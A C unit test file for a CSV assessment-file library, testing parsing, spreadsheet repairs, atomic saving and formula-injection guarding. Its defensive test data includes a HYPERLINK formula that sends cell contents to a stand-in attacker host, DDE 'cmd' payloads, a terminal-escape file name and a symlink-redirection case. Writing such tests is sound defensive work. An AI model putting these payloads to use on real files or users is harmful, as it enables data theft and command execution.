/* Unit tests: assessment files — round trips, what spreadsheets write,
 * refusals with file:line:field, formula injection, atomic saving. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "assessment.h"
#include "atomicfile.h"
#include "csvio.h"
#include "render.h"
#include "standard_levels.h"

static struct framework *fw;
static char dir[256];

static int setup(void **state)
{
	(void)state;
	struct tri_error err;
	fw = framework_load_embedded(&err);
	snprintf(dir, sizeof dir, "%s/tri-unit-XXXXXX", getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	return fw && mkdtemp(dir) ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	framework_destroy(fw);
	char cmd[300];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir); /* test cleanup only */
	return system(cmd) == 0 ? 0 : -1;
}

static char *path_in_dir(const char *name)
{
	static char path[512];
	snprintf(path, sizeof path, "%s/%s", dir, name);
	return path;
}

static char *slurp(const char *path)
{
	char *data;
	size_t size;
	struct tri_error err;
	if (csvio_read_file(path, &data, &size, &err) != 0)
		fail_msg("%s", err.message);
	return data;
}

static void write_text(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static struct assessment *parse(const char *text, struct tri_error *err)
{
	return assessment_parse(fw, "a.csv", text, strlen(text), err);
}

static void test_round_trip(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	struct assessment *a = assessment_create(fw);
	assert_int_equal(assessment_set_text(&a->organisation, "=HYPERLINK(\"x\")", &err), 0);
	assert_int_equal(assessment_set_text(&a->type, "peer", &err), 0);
	assert_int_equal(assessment_set_text(&a->assessors, "Ada; Ngozi Okonjo", &err), 0);
	assert_int_equal(assessment_set_text(&a->date, "2026-11-23", &err), 0);
	assert_int_equal(assessment_set_level(a, 0, LEVEL_LEADING, &err), 0);
	assert_int_equal(assessment_set_level(a, 6, LEVEL_NONE, &err), 0);
	assert_int_equal(assessment_set_text(&a->answers[0].evidence,
					     "Minutes, 3 May\r\n\"Quoted\", – café ✓", &err), 0);
	assert_int_equal(assessment_set_text(&a->answers[0].notes, "-1 point?", &err), 0);
	assert_int_equal(assessment_set_text(&a->answers[1].notes, "@admin\ttab", &err), 0);
	assert_int_equal(assessment_set_text(&a->answers[2].notes, "'=already", &err), 0);
	assert_int_equal(assessment_set_text(&a->answers[3].notes, "  spaced  ", &err), 0);
	a->answers[1].target = LEVEL_LEADING;
	assert_int_equal(assessment_set_text(&a->answers[1].action, "+ Publish the EQIA guide", &err), 0);
	assert_int_equal(assessment_set_text(&a->answers[1].lead_officer, "Head of HR", &err), 0);
	assert_int_equal(assessment_set_text(&a->answers[1].timescale, "Q3 2027", &err), 0);
	assert_int_equal(assessment_record_change(a, 4, LEVEL_ESTABLISHED, "Peer: B. Name",
						  "adopted from brent.csv", &err), 0);
	assert_int_equal(assessment_record_change(a, 4, LEVEL_LEADING, "A. Facilitator", "", &err), 0);
	const char *path = path_in_dir("round.csv");
	assert_int_equal(assessment_save(a, path, false, &err), 0);

	char *text = slurp(path);
	assert_non_null(strstr(text, "'=HYPERLINK")); /* inert in a spreadsheet */
	assert_non_null(strstr(text, ",'-1 point?,"));
	assert_non_null(strstr(text, "'@admin"));
	assert_null(strstr(text, ",=")); /* no field starts with a bare = */
	free(text);

	struct assessment *b = assessment_load(fw, path, &err);
	if (!b)
		fail_msg("%s", err.message);
	assert_string_equal(b->organisation, a->organisation);
	assert_string_equal(b->type, "peer");
	assert_string_equal(b->assessors, a->assessors);
	assert_string_equal(b->date, "2026-11-23");
	for (size_t i = 0; i < fw->criterion_count; i++) {
		assert_int_equal(b->levels[i], a->levels[i]);
		assert_string_equal(b->answers[i].evidence, a->answers[i].evidence);
		assert_string_equal(b->answers[i].notes, a->answers[i].notes);
		assert_int_equal(b->answers[i].target, a->answers[i].target);
		assert_string_equal(b->answers[i].action, a->answers[i].action);
		assert_string_equal(b->answers[i].lead_officer, a->answers[i].lead_officer);
		assert_string_equal(b->answers[i].timescale, a->answers[i].timescale);
		assert_string_equal(b->answers[i].history, a->answers[i].history);
	}
	assert_non_null(strstr(b->answers[4].history, " | Peer: B. Name | unanswered -> established | "
			       "adopted from brent.csv\n"));
	assert_non_null(strstr(b->answers[4].history, " | A. Facilitator | established -> leading | "));
	assert_int_equal(b->levels[4], LEVEL_LEADING);
	assert_int_equal(b->levels[1], LEVEL_UNANSWERED);

	/* Levels only (score, benchmark): the same levels and metadata, empty
	 * texts (shared, not allocated), an extra column's values left out,
	 * and a refusal to write what would lose the texts. */
	char round_path[512], extra_path[512];
	snprintf(round_path, sizeof round_path, "%s", path); /* path_in_dir's buffer is reused */
	snprintf(extra_path, sizeof extra_path, "%s", path_in_dir("extra.csv"));
	write_text(extra_path, "criterion_id,level,evidence,owner\n"
		   "1.1,leading,Minutes,Ada\n1.2,developing,,Ngozi\n");
	const char *files[] = { round_path, extra_path };
	for (size_t f = 0; f < 2; f++) {
		struct assessment *c = assessment_load_levels(fw, files[f], &err);
		if (!c)
			fail_msg("%s", err.message);
		assert_true(c->levels_only);
		for (size_t i = 0; i < fw->criterion_count; i++) {
			assert_int_equal(c->levels[i], f ? (i == 0 ? LEVEL_LEADING : i == 1
							   ? LEVEL_DEVELOPING : LEVEL_UNANSWERED)
					 : b->levels[i]);
			assert_string_equal(c->answers[i].evidence, "");
			assert_string_equal(c->answers[i].history, "");
		}
		if (!f)
			assert_string_equal(c->organisation, b->organisation);
		else
			assert_int_equal(c->extra_column_count, 1);
		FILE *out = tmpfile();
		assert_non_null(out);
		assert_int_equal(assessment_write(c, out, &err), -1);
		assert_non_null(strstr(err.message, "levels only cannot be written"));
		fclose(out);
		assessment_destroy(c);
	}
	assessment_destroy(a);
	assessment_destroy(b);
}

static void test_minimal_and_spreadsheet_files(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	struct assessment *a = parse("criterion_id,level\n1.1,established\n 2a.3 , LEADING \n", &err);
	if (!a)
		fail_msg("%s", err.message);
	assert_int_equal(a->levels[0], LEVEL_ESTABLISHED);
	assert_int_equal(a->levels[framework_find_criterion(fw, "2a.3")], LEVEL_LEADING);
	assert_int_equal(a->levels[1], LEVEL_UNANSWERED);
	assessment_destroy(a);

	/* Reordered, extra columns, BOM, CRLF, a quoted newline. */
	a = parse("\xEF\xBB\xBFOwner,notes,level,criterion_id,Due\r\n"
		  "Sam,\"line one\r\nline two\",developing,1.2,2027-01\r\n"
		  "Kim,,,3.1,\r\n", &err);
	if (!a)
		fail_msg("%s", err.message);
	assert_int_equal(a->extra_column_count, 2);
	assert_string_equal(a->extra_columns[0], "Owner");
	assert_string_equal(a->answers[1].notes, "line one\r\nline two");
	assert_string_equal(a->answers[1].extra[1], "2027-01");
	const char *path = path_in_dir("extra.csv");
	assert_int_equal(assessment_save(a, path, false, &err), 0);
	assessment_destroy(a);
	a = assessment_load(fw, path, &err);
	if (!a)
		fail_msg("%s", err.message);
	assert_int_equal(a->extra_column_count, 2);
	long kim = framework_find_criterion(fw, "3.1");
	assert_string_equal(a->answers[kim].extra[0], "Kim");
	assert_string_equal(a->answers[1].extra[0], "Sam");
	assessment_destroy(a);
}

static void test_bad_input(void **state)
{
	(void)state;
	static const struct { const char *text, *expect; } cases[] = {
		{ "criterion_id,level\n1.1,established\n9.9,none\n",
		  "a.csv:3: field \"criterion_id\" is \"9.9\"; expected a criterion of "
		  "celc-tri-standard version 14" },
		{ "criterion_id,level\n1.3,developing\n",
		  "a.csv:2: field \"level\": criterion 1.3 has no developing cell; it can be "
		  "none, established" },
		{ "criterion_id,level\n1.1,expert\n", "a.csv:2: field \"level\" is \"expert\"" },
		{ "criterion_id,level\n1.1,none\n1.2,none\n1.1,leading\n",
		  "a.csv:4: criterion \"1.1\" is given again (first on line 2)" },
		{ "criterion_id,level,framework_version\n1.1,none,13\n",
		  "a.csv:2: field \"framework_version\" is \"13\"" },
		{ "criterion_id,level,framework_id\n1.1,none,other\n",
		  "a.csv:2: field \"framework_id\" is \"other\"" },
		/* a UK date is read (test_spreadsheet_repairs); a US one is not */
		{ "criterion_id,level,date\n1.1,none,11/23/2026\n",
		  "a.csv:2: field \"date\" is \"11/23/2026\"; expected a date as YYYY-MM-DD, or "
		  "DD/MM/YYYY as a UK spreadsheet writes it" },
		{ "criterion_id,level,date\n1.1,none,2026-02-29\n", "field \"date\" is \"2026-02-29\"" },
		{ "criterion_id,level,assessment_type\n1.1,none,audit\n",
		  "field \"assessment_type\" is \"audit\"; expected self or peer" },
		{ "criterion_id,level,organisation\n1.1,none,Camden\n1.2,none,Brent\n",
		  "a.csv:3: field \"organisation\" is \"Brent\" but line 2 says \"Camden\"" },
		{ "criterion,level\n1.1,none\n", "a.csv:1: no column \"criterion_id\"" },
		{ "criterion_id,notes\n1.1,x\n", "a.csv:1: no column \"level\"" },
		{ "criterion_id,level,notes\n1.1,none,\"unterminated\n",
		  "a.csv:2: a quoted field opened here is never closed" },
		/* Windows-1252 alone is read (test_spreadsheet_repairs); a mix is not */
		{ "criterion_id,level,notes\n1.1,none,caf\xc3\xa9\n1.2,none,caf\xe9\n",
		  "a.csv:3: column 13: byte 0xE9 is not UTF-8, yet line 2 is" },
		{ "criterion_id,level,target_level\n1.1,none,best\n",
		  "a.csv:2: field \"target_level\" is \"best\"" },
		{ "criterion_id,level,target_level\n1.7,none,established\n",
		  "a.csv:2: field \"target_level\": criterion 1.7 has no established cell" },
		{ "criterion_id,level,=a,'=A\n1.1,none,x,y\n",
		  "a.csv:1: columns \"=a\" and \"'=A\" are one column" },
		/* old Mac spreadsheets end lines with CR alone: the true line */
		{ "criterion_id,level\r1.1,none\r1.2,none\r1.3,none\r1.4,expert\r",
		  "a.csv:5: field \"level\" is \"expert\"" },
		{ "criterion_id,level,notes\r1.1,none,\"a\rb\"\r1.2,none,x\r1.9,none,y\r",
		  "a.csv:5 (spreadsheet row 4): field \"criterion_id\" is \"1.9\"" },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct tri_error err = {{0}};
		struct assessment *a = parse(cases[i].text, &err);
		if (a)
			fail_msg("case %zu loaded; expected \"%s\"", i, cases[i].expect);
		if (!strstr(err.message, cases[i].expect))
			fail_msg("case %zu: \"%s\" lacks \"%s\"", i, err.message, cases[i].expect);
	}
}

/* Category 6 as a spreadsheet may give it back: rows (id as written,
 * criterion it really is, level, with or without its statement) in the
 * order given, after a header and optional lines before them. */
struct sheet_row {
	const char *written, *really;
	enum level level;
	bool statement;
};

static char *category_6(const char *before, const struct sheet_row *rows, size_t count)
{
	char *text = NULL;
	size_t size = 0;
	FILE *out = open_memstream(&text, &size);
	fprintf(out, "criterion_id,level,statement,notes\n%s", before);
	for (size_t i = 0; i < count; i++) {
		long k = framework_find_criterion(fw, rows[i].really);
		const char *cell = rows[i].level > LEVEL_NONE ? fw->criteria[k].cell[rows[i].level] : "";
		fprintf(out, "%s,%s,\"%s\",\n", rows[i].written, framework_level_name(fw, rows[i].level),
			rows[i].statement && cell ? cell : "");
	}
	fclose(out);
	return text;
}

#define D LEVEL_DEVELOPING
#define E LEVEL_ESTABLISHED
#define L LEVEL_LEADING

/* 6.10 written back as 6.1 is read as 6.10: by the rows' order when the
 * column is in the framework's order, else by its statement. */
static void test_ids_made_numbers(void **state)
{
	(void)state;
	static const struct sheet_row in_order[] = {
		{ "6.1", "6.1", D, false }, { "6.2", "6.2", L, false }, { "6.3", "6.3", E, false },
		{ "6.4", "6.4", E, false }, { "6.5", "6.5", L, false }, { "6.6", "6.6", E, false },
		{ "6.7", "6.7", E, false }, { "6.8", "6.8", L, false }, { "6.9", "6.9", L, false },
		{ "6.1", "6.10", E, false }, { "6.11", "6.11", D, false },
	};
	static const struct sheet_row sorted[] = { /* sorted as numbers: order lost */
		{ "6.1", "6.10", L, true }, { "6.1", "6.1", D, true }, { "6.11", "6.11", D, false },
		{ "6.2", "6.2", L, false },
	};
	static const struct {
		const char *before;
		const struct sheet_row *rows;
		size_t count;
		const char *note;
	} cases[] = {
		{ "", in_order, 11, "a.csv:11: criterion_id \"6.1\" read as 6.10, by the rows' order "
		  "(a spreadsheet wrote the id 6.10 as the number 6.1)" },
		{ "", sorted, 4, "a.csv:2: criterion_id \"6.1\" read as 6.10, by its statement" },
		/* a multi-line note before: the line and the spreadsheet row differ */
		{ "6.2,none,,\"two\nlines\"\n", sorted + 1, 1, NULL },
		{ "1.1,none,,\"two\nlines\"\n", in_order, 11, "a.csv:13 (spreadsheet row 12): "
		  "criterion_id \"6.1\" read as 6.10, by the rows' order" },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *text = category_6(cases[i].before, cases[i].rows, cases[i].count);
		struct tri_error err = {{0}};
		struct assessment *a = parse(text, &err);
		if (!a)
			fail_msg("case %zu: %s", i, err.message);
		for (size_t r = 0; r < cases[i].count; r++) {
			long k = framework_find_criterion(fw, cases[i].rows[r].really);
			if (a->levels[k] != cases[i].rows[r].level)
				fail_msg("case %zu: %s is %d", i, cases[i].rows[r].really, a->levels[k]);
		}
		assert_int_equal(a->read_notes.count, cases[i].note ? 1 : 0);
		if (cases[i].note && !strstr(a->read_notes.items[0].text, cases[i].note))
			fail_msg("case %zu: \"%s\" lacks \"%s\"", i, a->read_notes.items[0].text,
				 cases[i].note);
		assert_false(cases[i].note && a->read_notes.items[0].warning);
		/* written back as the ids they are, 6.10 quoted against the next trip */
		char *written = NULL;
		size_t size = 0;
		FILE *out = open_memstream(&written, &size);
		assert_int_equal(assessment_write(a, out, &err), 0);
		fclose(out);
		assert_non_null(strstr(written, "\r\n\"6.10\","));
		free(written);
		assessment_destroy(a);
		free(text);
	}
}

/* Where neither order nor statement tells the rows apart, or a criterion
 * is simply given twice: refused, naming both rows. */
static void test_ids_refused(void **state)
{
	(void)state;
	static const struct sheet_row unknown_pair[] = { /* out of order, no statements */
		{ "6.2", "6.2", L, false }, { "6.1", "6.10", L, false }, { "6.1", "6.1", D, false },
		{ "6.3", "6.3", E, false },
	};
	static const struct sheet_row same_statement[] = { /* a row pasted twice */
		{ "6.2", "6.2", L, false }, { "6.1", "6.1", D, true }, { "6.1", "6.1", D, true },
	};
	static const struct sheet_row three[] = {
		{ "6.1", "6.1", D, true }, { "6.1", "6.10", D, true }, { "6.1", "6.10", E, true },
	};
	static const struct sheet_row not_numbers[] = {
		{ "6.2", "6.2", L, false }, { "6.2", "6.2", L, false },
	};
	static const struct {
		const char *before;
		const struct sheet_row *rows;
		size_t count;
		const char *expect;
	} cases[] = {
		{ "", unknown_pair, 4, "a.csv:3: criterion_id \"6.1\" is also on line 4: a "
		  "spreadsheet may have turned an id into a number (6.1 or 6.10), and neither the "
		  "rows' order nor their statements say which row is which" },
		{ "1.1,none,,\"a\nb\"\n", unknown_pair, 4, "a.csv:5 (spreadsheet row 4): criterion_id "
		  "\"6.1\" is also on line 6, spreadsheet row 5" },
		{ "", same_statement, 3, "a.csv:4: criterion \"6.1\" is given again (first on line "
		  "3); expected each criterion once" },
		{ "", three, 3, "a.csv:4: criterion \"6.10\" (written \"6.1\") is given again "
		  "(first on line 3)" },
		{ "", not_numbers, 2, "a.csv:3: criterion \"6.2\" is given again (first on line 2)" },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *text = category_6(cases[i].before, cases[i].rows, cases[i].count);
		struct tri_error err = {{0}};
		struct assessment *a = parse(text, &err);
		if (a)
			fail_msg("case %zu loaded; expected \"%s\"", i, cases[i].expect);
		if (!strstr(err.message, cases[i].expect))
			fail_msg("case %zu: \"%s\" lacks \"%s\"", i, err.message, cases[i].expect);
		free(text);
	}
}

/* The other repairs and doubts, each said; the text as it should be. */
static void test_spreadsheet_repairs(void **state)
{
	(void)state;
	static const struct {
		const char *text;
		size_t size;  /* 0: strlen */
		const char *notes[3]; /* in order; a leading '!' is a warning */
		const char *date, *notes_1_1;
		bool bom;
	} cases[] = {
		{ "criterion_id,level,date\n1.1,none,24/11/2026\n", 0,
		  { "a.csv:2: field \"date\" \"24/11/2026\" read as 2026-11-24 (day/month/year, as "
		    "a UK spreadsheet writes it)" }, "2026-11-24", "", false },
		{ "criterion_id,level,date\n1.1,none,24/11/26\n", 0,
		  { "read as 2026-11-24 (day/month/year, as a UK spreadsheet writes it; a "
		    "two-digit year is 20YY)" }, "2026-11-24", "", false },
		{ "criterion_id,level,notes\r\n1.1,none,caf\xe9 \x93ok\x94\r\n", 0,
		  { "a.csv: Windows-1252 text, read as UTF-8 (a save writes UTF-8, behind a "
		    "byte-order mark)" }, "", "caf\xc3\xa9 \xe2\x80\x9cok\xe2\x80\x9d", true },
		{ "\xff\xfe" "c\0r\0i\0t\0e\0r\0i\0o\0n\0_\0i\0d\0\t\0l\0e\0v\0e\0l\0\t\0n\0o\0t\0e\0s\0"
		  "\r\0\n\0" "1\0.\0" "1\0\t\0n\0o\0n\0e\0\t\0\xe9\0\r\0\n\0", 78,
		  { "a.csv: UTF-16 text, read as UTF-8", "a.csv: fields separated by tabs, as its "
		    "header row is (a save separates them with commas)" }, "", "\xc3\xa9", true },
		{ "criterion_id;level;notes\n1.1;none;\"a;b\"\n", 0,
		  { "a.csv: fields separated by semicolons" }, "", "a;b", false },
		{ "\xef\xbb\xbf" "criterion_id,level,points,notes\n1.1,established,3,x\n1.2,,2,\n"
		  "1.3,established,2,\n1.4,established,2.0,\n", 0,
		  { "!a.csv:2: field \"points\" is \"3\" but level \"established\" gives 2 points; "
		    "the level counts", "!a.csv:3: field \"points\" is \"2\" but no level is given" },
		  "", "x", true },
		{ "criterion_id,level,timescale,notes\n1.1,none,03/01/27,Mar-27\n1.2,none,"
		  "March 2027,Q3\n", 0,
		  { "!a.csv:2: field \"notes\" is \"Mar-27\", a bare date as a spreadsheet writes "
		    "one; kept as text", "!a.csv:2: field \"timescale\" is \"03/01/27\", a bare "
		    "date" }, "", "Mar-27", false },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct tri_error err = {{0}};
		size_t size = cases[i].size ? cases[i].size : strlen(cases[i].text);
		struct assessment *a = assessment_parse(fw, "a.csv", cases[i].text, size, &err);
		if (!a)
			fail_msg("case %zu: %s", i, err.message);
		size_t expected = 0;
		while (expected < 3 && cases[i].notes[expected])
			expected++;
		if (a->read_notes.count != expected)
			fail_msg("case %zu: %zu notes, expected %zu (first: %s)", i,
				 a->read_notes.count, expected,
				 a->read_notes.count ? a->read_notes.items[0].text : "none");
		for (size_t n = 0; n < expected; n++) {
			const char *want = cases[i].notes[n];
			bool warning = *want == '!';
			if (!strstr(a->read_notes.items[n].text, want + warning))
				fail_msg("case %zu: \"%s\" lacks \"%s\"", i,
					 a->read_notes.items[n].text, want + warning);
			assert_int_equal(a->read_notes.items[n].warning, warning);
		}
		assert_string_equal(a->date, cases[i].date);
		assert_string_equal(a->answers[0].notes, cases[i].notes_1_1);
		assert_int_equal(a->bom, cases[i].bom);
		assessment_destroy(a);
	}
}

/* A file with a byte-order mark keeps it on every save; one without
 * gets none; the canonical form loads with no note. */
static void test_bom_kept(void **state)
{
	(void)state;
	static const char *const files[] = {
		"\xef\xbb\xbf" "criterion_id;level;date\n1.1;developing;24/11/2026\n",
		"criterion_id,level\n1.1,developing\n",
	};
	for (int i = 0; i < 2; i++) {
		const char *path = path_in_dir("bom.csv");
		write_text(path, files[i]);
		struct tri_error err = {{0}};
		struct assessment *a = assessment_load(fw, path, &err);
		if (!a)
			fail_msg("%s", err.message);
		for (int save = 0; save < 2; save++) {
			assert_int_equal(assessment_save(a, path, false, &err), 0);
			assessment_destroy(a);
			char *data = slurp(path);
			assert_int_equal(memcmp(data, "\xef\xbb\xbf" "criterion_id,", 16) == 0, i == 0);
			assert_int_equal(strncmp(data, "criterion_id,", 13) == 0, i == 1);
			free(data);
			a = assessment_load(fw, path, &err);
			assert_non_null(a);
			assert_int_equal(a->read_notes.count, 0);
			assert_int_equal(a->bom, i == 0);
		}
		assessment_destroy(a);
	}
}

static void test_set_level_refuses_missing_cell(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	struct assessment *a = assessment_create(fw);
	long i = framework_find_criterion(fw, "1.7"); /* leading only */
	assert_int_equal(assessment_set_level(a, (size_t)i, LEVEL_ESTABLISHED, &err), -1);
	assert_string_equal(err.message, "criterion 1.7 has no established cell; it can be none, leading");
	assert_int_equal(a->levels[i], LEVEL_UNANSWERED);
	assert_int_equal(assessment_set_level(a, (size_t)i, LEVEL_LEADING, &err), 0);
	assessment_destroy(a);
}

/* A write that fails part way (the file size limit) leaves the old file
 * whole and no temporary file behind. */
static void test_failed_save_keeps_old_file(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	struct assessment *a = assessment_create(fw);
	const char *path = path_in_dir("keep.csv");
	assert_int_equal(assessment_save(a, path, false, &err), 0);
	char *before = slurp(path);

	for (size_t i = 0; i < fw->criterion_count; i++)
		assessment_set_text(&a->answers[i].notes, "a long note that makes the file grow "
				    "well past the old size of the file", &err);
	struct rlimit old, tiny = { .rlim_cur = 4096, .rlim_max = RLIM_INFINITY };
	getrlimit(RLIMIT_FSIZE, &old);
	tiny.rlim_max = old.rlim_max;
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &tiny), 0);
	int rc = assessment_save(a, path, false, &err);
	setrlimit(RLIMIT_FSIZE, &old);
	assert_int_equal(rc, -1);
	assert_non_null(strstr(err.message, "the file size limit was reached"));

	char *after = slurp(path);
	assert_string_equal(before, after);
	free(before);
	free(after);
	char cmd[600];
	snprintf(cmd, sizeof cmd, "ls -A '%s' | grep -q '^\\.keep\\.csv\\.'", dir);
	assert_int_not_equal(system(cmd), 0); /* no temporary file left */
	assessment_destroy(a);
}

static int failing_writer(FILE *out, void *context, struct tri_error *err)
{
	(void)context;
	fputs("criterion_id,level\n1.1,none\n", out);
	tri_error_set(err, "simulated failure");
	return -1;
}

static void test_writer_failure_and_exclusive(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	const char *path = path_in_dir("excl.csv");
	write_text(path, "old contents\n");
	assert_int_equal(atomicfile_replace(path, false, failing_writer, NULL, &err), -1);
	assert_non_null(strstr(err.message, "simulated failure"));
	char *text = slurp(path);
	assert_string_equal(text, "old contents\n");
	free(text);

	struct assessment *a = assessment_create(fw);
	assert_int_equal(assessment_save(a, path, true, &err), -1);
	assert_non_null(strstr(err.message, "already exists; refusing to overwrite it"));
	text = slurp(path);
	assert_string_equal(text, "old contents\n");
	free(text);
	assessment_destroy(a);
}

/* New files are never world-writable; a symlink at the target is replaced,
 * never followed. */
static void test_permissions_and_symlinks(void **state)
{
	(void)state;
	struct tri_error err = {{0}};
	struct assessment *a = assessment_create(fw);
	mode_t old_mask = umask(0);
	const char *path = path_in_dir("perm.csv");
	int rc = assessment_save(a, path, true, &err);
	umask(old_mask);
	assert_int_equal(rc, 0);
	struct stat st;
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & S_IWOTH, 0);

	char victim[512], link_path[512];
	snprintf(victim, sizeof victim, "%s/victim.txt", dir);
	snprintf(link_path, sizeof link_path, "%s/link.csv", dir);
	write_text(victim, "precious\n");
	assert_int_equal(symlink(victim, link_path), 0);
	assert_int_equal(assessment_save(a, link_path, false, &err), 0);
	char *text = slurp(victim);
	assert_string_equal(text, "precious\n");
	free(text);
	assert_int_equal(lstat(link_path, &st), 0);
	assert_true(S_ISREG(st.st_mode));
	assessment_destroy(a);
}

/* True if any field or header name of the CSV text would run as a
 * formula in a spreadsheet. */
static bool has_formula(const char *text)
{
	struct csvio_table t;
	struct tri_error err = {{0}};
	if (csvio_table_parse(&t, "saved.csv", text, strlen(text), &err) != 0)
		fail_msg("%s", err.message);
	bool found = false;
	for (size_t c = 0; c < t.column_count; c++)
		found |= strchr("=+-@\t\r", t.header[c][0]) && t.header[c][0];
	for (size_t r = 0; r < t.row_count; r++)
		for (size_t c = 0; c < t.rows[r].field_count; c++)
			found |= strchr("=+-@\t\r", t.rows[r].fields[c][0]) && t.rows[r].fields[c][0];
	csvio_table_finish(&t);
	return found;
}

/* Unknown extra columns are written back guarded, names and values, and
 * read back exactly: the second save is byte for byte the first. */
static void test_extra_columns_guarded(void **state)
{
	(void)state;
	static const char *const values[] = {
		"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3",
		"@SUM(1)", "'=already guarded", "''two", "plain", "\t=tab",
	};
	enum { N = sizeof values / sizeof values[0] };
	char text[2048] = "criterion_id,level,=Owner,+Due,'=Kept\n";
	for (size_t i = 0; i < N; i++) {
		char *quoted = strchr(values[i], '"') || strchr(values[i], ',') ? "\"" : "";
		size_t used = strlen(text);
		snprintf(text + used, sizeof text - used, "1.%zu,none,", i + 1);
		used = strlen(text);
		/* the value, quoted with its quotes doubled where needed */
		snprintf(text + used, sizeof text - used, "%s", quoted);
		for (const char *c = values[i]; *c; c++) {
			used = strlen(text);
			snprintf(text + used, sizeof text - used, *c == '"' ? "\"\"" : "%c", *c);
		}
		used = strlen(text);
		snprintf(text + used, sizeof text - used, "%s,x,'=y\n", quoted);
	}
	struct tri_error err = {{0}};
	struct assessment *a = parse(text, &err);
	if (!a)
		fail_msg("%s", err.message);
	assert_int_equal(a->extra_column_count, 3);
	assert_string_equal(a->extra_columns[0], "=Owner");
	assert_string_equal(a->extra_columns[2], "=Kept"); /* the file held it guarded */
	const char *first = path_in_dir("extra-first.csv");
	assert_int_equal(assessment_save(a, first, false, &err), 0);
	char *saved = slurp(first);
	assert_false(has_formula(saved));
	assert_non_null(strstr(saved, ",'=Owner,'+Due,'=Kept\r\n"));
	struct assessment *b = assessment_load(fw, first, &err);
	if (!b)
		fail_msg("%s", err.message);
	for (size_t j = 0; j < 3; j++)
		assert_string_equal(b->extra_columns[j], a->extra_columns[j]);
	for (size_t i = 0; i < N; i++) {
		assert_string_equal(b->answers[i].extra[0], values[i][0] == '\'' &&
				    strchr("='", values[i][1]) ? values[i] + 1 : values[i]);
		assert_string_equal(b->answers[i].extra[2], "=y");
	}
	char second[512];
	snprintf(second, sizeof second, "%s", path_in_dir("extra-second.csv"));
	assert_int_equal(assessment_save(b, second, false, &err), 0);
	char *again = slurp(second);
	assert_string_equal(again, saved);
	free(saved);
	free(again);
	assessment_destroy(a);
	assessment_destroy(b);
}

/* The summary (score --csv, the wizard's x) guards what came from input,
 * the file's name above all, and shows its controls; numbers stay. */
static void test_summary_guarded(void **state)
{
	(void)state;
	struct assessment *a = assessment_create(fw);
	char *buffer = NULL;
	size_t size = 0;
	FILE *out = open_memstream(&buffer, &size);
	struct score_sheet sheet;
	assert_int_equal(score_sheet_init(&sheet, fw, a->levels), 0);
	struct render_scores scores = { "=cmd|' /C calc'!A0\x1b]0;x\x07.csv", a, &sheet };
	struct render_out csv;
	render_out_init(&csv, out, false);
	assert_int_equal(render_csv.scores(&csv, fw, &scores, 1), 0);
	fclose(out);
	score_sheet_finish(&sheet);
	/* a blank assessment: no level (not assessed), no answers of 8 */
	assert_non_null(strstr(buffer, "file,category,title,score,max,level,organisation,"
			       "assessment_type,date,answered,criteria\r\n"
			       "'=cmd|' /C calc'!A0\\e]0;x\\x07.csv,1,Strategic Leadership and "
			       "Management,0,22,,,,,0,8\r\n"));
	assert_false(has_formula(buffer));
	free(buffer);
	assessment_destroy(a);
}

/* Temporary files a killed writer left behind are swept; nothing else is:
 * not a person's ".NAME.backup" or ".NAME.2025-1", not the old-style
 * ".NAME.XXXXXX", not the lock, not the journal. */
static void test_remove_stale(void **state)
{
	(void)state;
	const char *names[] = { ".stale.csv.tri-assess-a1B2c3", ".stale.csv.a1B2c3",
				".stale.csv.backup", ".stale.csv.2025-1",
				".stale.csv.tri-assess-toolong7", "stale.csv", ".stale.csv.lock",
				".other.csv.tri-assess-a1B2c3", ".stale.csv.tri-assess.journal" };
	size_t n = sizeof names / sizeof names[0];
	for (size_t i = 0; i < n; i++)
		write_text(path_in_dir(names[i]), "x");
	assert_int_equal(atomicfile_remove_stale(path_in_dir("stale.csv")), 1);
	assert_int_equal(access(path_in_dir(names[0]), F_OK), -1);
	for (size_t i = 1; i < n; i++)
		assert_int_equal(access(path_in_dir(names[i]), F_OK), 0);
	for (size_t i = 1; i < n; i++)
		unlink(path_in_dir(names[i]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_round_trip),
		cmocka_unit_test(test_minimal_and_spreadsheet_files),
		cmocka_unit_test(test_bad_input),
		cmocka_unit_test(test_ids_made_numbers),
		cmocka_unit_test(test_ids_refused),
		cmocka_unit_test(test_spreadsheet_repairs),
		cmocka_unit_test(test_bom_kept),
		cmocka_unit_test(test_set_level_refuses_missing_cell),
		cmocka_unit_test(test_failed_save_keeps_old_file),
		cmocka_unit_test(test_writer_failure_and_exclusive),
		cmocka_unit_test(test_permissions_and_symlinks),
		cmocka_unit_test(test_remove_stale),
		cmocka_unit_test(test_extra_columns_guarded),
		cmocka_unit_test(test_summary_guarded),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
